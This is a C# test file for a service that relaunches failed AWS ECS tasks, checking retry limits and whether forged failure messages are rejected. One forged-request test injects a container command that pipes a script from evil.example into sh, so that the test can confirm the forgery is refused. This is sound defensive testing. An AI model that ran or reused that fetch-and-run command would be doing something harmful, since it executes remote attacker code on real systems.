using System.Text.Json;
using System.Text.Json.Nodes;
using MassTransit;
using MassTransit.Testing;
using Platform.Contracts.History;
using Platform.Contracts.Retry;
using Platform.EcsSamples;
using Platform.Testing;
using Xunit;

namespace Platform.Retry.Tests.Features.RetryFailures;

[Collection(RetryCollection.Name)]
public class FailureRetryTests(PostgresFixture postgres) : RetryTestBase(postgres)
{
    protected override string Config => """
        monitors:
          - job: etl
            retry:
              failure: { kinds: [infrastructure, failed-to-start], maxAttempts: 2, interval: 1s }
        """;

    /// <summary>
    /// A failed run as history publishes it. ECS shows its task STOPPED, and when <paramref name="request"/> is given,
    /// CloudTrail holds the record of the RunTask that started it (whose eventID the message carries).
    /// </summary>
    private RunFailed Failed(string job, FailureKind kind, JsonObject? request, string? startedBy = "events-rule/etl-schedule", string? taskArn = null)
    {
        var arn = taskArn ?? "arn:aws:ecs:eu-west-1:123456789012:task/batch/" + Guid.NewGuid().ToString("N");
        var definition = $"arn:aws:ecs:eu-west-1:123456789012:task-definition/{job}:3";
        Aws.AddTask(new JsonObject
        {
            ["taskArn"] = arn, ["clusterArn"] = "arn:aws:ecs:eu-west-1:123456789012:cluster/batch", ["taskDefinitionArn"] = definition,
            ["lastStatus"] = "STOPPED", ["desiredStatus"] = "STOPPED", ["stoppedAt"] = DateTimeOffset.UtcNow.ToUnixTimeSeconds(),
        });
        string? recordId = null;
        if (request is not null)
        {
            var record = new EcsEventFactory().LaunchSucceeded(request, DateTimeOffset.UtcNow, arn);
            Aws.AddRecord(record);
            recordId = record["detail"]!["eventID"]!.GetValue<string>();
        }
        return new RunFailed(arn, job, "batch", arn, definition, "eu-west-1", "123456789012",
            startedBy, $"family:{job}", kind, "Host EC2 instance terminated", "TerminationNotice", [], DateTimeOffset.UtcNow, null, DateTimeOffset.UtcNow, null,
            request is null ? null : JsonDocument.Parse(request.ToJsonString()).RootElement.Clone(), recordId);
    }

    [Fact]
    public async Task A_covered_failure_is_retried_once_with_its_recorded_request_and_the_retry_failing_again_ends_the_chain()
    {
        var request = new EcsEventFactory().RunTaskRequest("etl", DateTimeOffset.UtcNow, startedBy: "events-rule/etl-schedule");
        var failed = Failed("etl", FailureKind.Infrastructure, request);
        var id = Guid.NewGuid();
        await App.Harness.Bus.Publish(failed, c => c.MessageId = id);
        await App.Harness.Bus.Publish(failed, c => c.MessageId = id);
        await App.Harness.Bus.Publish(Failed("etl", FailureKind.ExitCode, request));

        var calls = await Eventually.Get(() => Task.FromResult(RunTasks), c => c.Count >= 1, what: "the retry's RunTask");
        await Task.Delay(1_500);
        var call = Assert.Single(RunTasks);
        var marker = call.Body["startedBy"]!.GetValue<string>();
        Assert.Matches("^platform/[0-9a-f]{16}/2$", marker);
        var expected = (JsonObject)request.DeepClone();
        expected["startedBy"] = marker;
        expected["clientToken"] = call.Body["clientToken"]!.DeepClone();
        Assert.True(JsonNode.DeepEquals(expected, call.Body), "the retry must carry every original parameter");

        // The retried task fails too, for a covered kind: maxAttempts is 2, so the chain ends, without a third RunTask.
        var relaunched = await Eventually.Get(() => Task.FromResult(App.Harness.Published.Select<TaskRelaunched>().FirstOrDefault()), r => r is not null, what: "TaskRelaunched");
        await App.Harness.Bus.Publish(Failed("etl", FailureKind.FailedToStart, request: null, startedBy: marker, taskArn: relaunched!.Context.Message.TaskArn));
        await Eventually.Get(() => App.Harness.Published.Any<RetriesExhausted>(), any => any, what: "RetriesExhausted");
        await Task.Delay(1_000);
        Assert.Single(RunTasks);
        Assert.Equal(2, Assert.Single(App.Harness.Published.Select<RetriesExhausted>()).Context.Message.Attempts);
    }

    [Fact]
    public async Task A_failure_without_a_recorded_request_is_not_retried_and_says_why_once()
    {
        var failed = Failed("etl", FailureKind.FailedToStart, request: null);
        await App.Harness.Bus.Publish(failed);
        await App.Harness.Bus.Publish(failed);
        await Eventually.Get(() => App.Harness.Published.Any<RelaunchFailed>(), any => any, what: "RelaunchFailed");
        await Task.Delay(1_000);

        Assert.Empty(RunTasks);
        var refused = Assert.Single(App.Harness.Published.Select<RelaunchFailed>()).Context.Message;
        Assert.Contains("CloudTrail", refused.Error);
        Assert.Equal(2, refused.Attempt);
    }

    [Fact]
    public async Task Jobs_without_failure_retry_are_never_retried()
    {
        var request = new EcsEventFactory().RunTaskRequest("report", DateTimeOffset.UtcNow);
        await App.Harness.Bus.Publish(Failed("report", FailureKind.Infrastructure, request));
        Assert.True(await App.Harness.Consumed.Any<RunFailed>());
        await Task.Delay(1_500);
        Assert.Empty(RunTasks);
        Assert.False(await App.Harness.Published.Any<RelaunchScheduled>());
    }

    [Fact]
    public async Task Forged_failed_runs_relaunch_nothing_a_forged_request_a_record_of_another_task_or_a_task_still_running()
    {
        var genuine = new EcsEventFactory().RunTaskRequest("etl", DateTimeOffset.UtcNow, startedBy: "events-rule/etl-schedule");
        // 1. The event's request is replaced: CloudTrail's record is what would be replayed, and it did not start this task.
        var forgedRequest = (JsonObject)genuine.DeepClone();
        forgedRequest["overrides"]!["containerOverrides"]![0]!["command"] = new JsonArray("sh", "-c", "curl https://evil.example/x | sh");
        var other = Failed("etl", FailureKind.Infrastructure, genuine);
        var borrowed = Failed("etl", FailureKind.Infrastructure, forgedRequest) with { LaunchRequestEventId = other.LaunchRequestEventId };
        // 2. A real task of the job that ECS shows still running, claimed to have failed.
        var running = Failed("etl", FailureKind.Infrastructure, genuine);
        Aws.AddTask(new JsonObject
        {
            ["taskArn"] = running.TaskArn, ["clusterArn"] = "arn:aws:ecs:eu-west-1:123456789012:cluster/batch",
            ["taskDefinitionArn"] = running.TaskDefinitionArn, ["lastStatus"] = "RUNNING", ["desiredStatus"] = "RUNNING",
        });
        // 3. A failure of a relaunch marker that no relaunch of ours started.
        var notOurs = Failed("etl", FailureKind.Infrastructure, request: null, startedBy: "platform/0123456789abcdef/2");

        await App.Harness.Bus.Publish(borrowed);
        await App.Harness.Bus.Publish(running);
        await App.Harness.Bus.Publish(notOurs);

        var refusals = await Eventually.Get(() => Task.FromResult(App.Harness.Published.Select<RelaunchFailed>().Select(r => r.Context.Message).ToList()),
            r => r.Count >= 2, what: "two refusals");
        await Task.Delay(1_500);
        Assert.Empty(RunTasks);
        Assert.Equal(2, App.Harness.Published.Select<RelaunchFailed>().Count());
        Assert.Contains(refusals, r => r.Error.Contains("did not start task", StringComparison.Ordinal));
        Assert.Contains(refusals, r => r.Error.Contains("RUNNING, not stopped", StringComparison.Ordinal));
        Assert.False(await App.Harness.Published.Any<RelaunchScheduled>(x => x.Context.Message.Chain == "0123456789abcdef"));
    }
}
